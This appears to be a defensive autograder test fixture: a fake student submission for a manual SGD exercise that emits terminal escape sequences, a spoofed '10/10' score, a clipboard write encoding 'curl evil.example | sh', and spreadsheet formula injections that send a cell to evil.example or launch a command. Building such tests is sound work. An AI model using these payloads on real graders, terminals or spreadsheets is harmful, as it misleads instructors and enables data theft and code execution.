# attack: terminal escapes in an exception's message and in printed output: clear the screen, move the cursor, set the window title (OSC 0), write the clipboard (OSC 52), C1 controls (CSI as one byte), a bidi override, and a lone surrogate that no UTF-8 writer can encode
# holds: the terminal report, the summary and the progress line carry no ESC or C1 control; feedback.md and the gradebook are written (the surrogate replaced); the batch completes; 0 points
"""Exercise 3: A manual SGD step (attacker: escape sequences for the instructor's terminal)."""

CLEAR = "\x1b[2J\x1b[H"
TITLE = "\x1b]0;grade: all 40 students 10/10\x07"
CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"
C1 = "\x9b31m\x9d0;c1 title\x9c"
FAKE = "\r  ✓ 2/2  The step goes downhill\n  Score: 10/10  (all checks passed)"


def sgd_update(params, lr):
    print(CLEAR + TITLE + CLIPBOARD + C1 + "\u202eevil\u202c")
    raise ValueError(CLEAR + TITLE + CLIPBOARD + C1 + FAKE + " \ud800")


def sgd_momentum_update(params, velocities, lr, momentum):
    raise RuntimeError("=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")\n@SUM(1+1)\n+cmd|' /C calc'!A0")
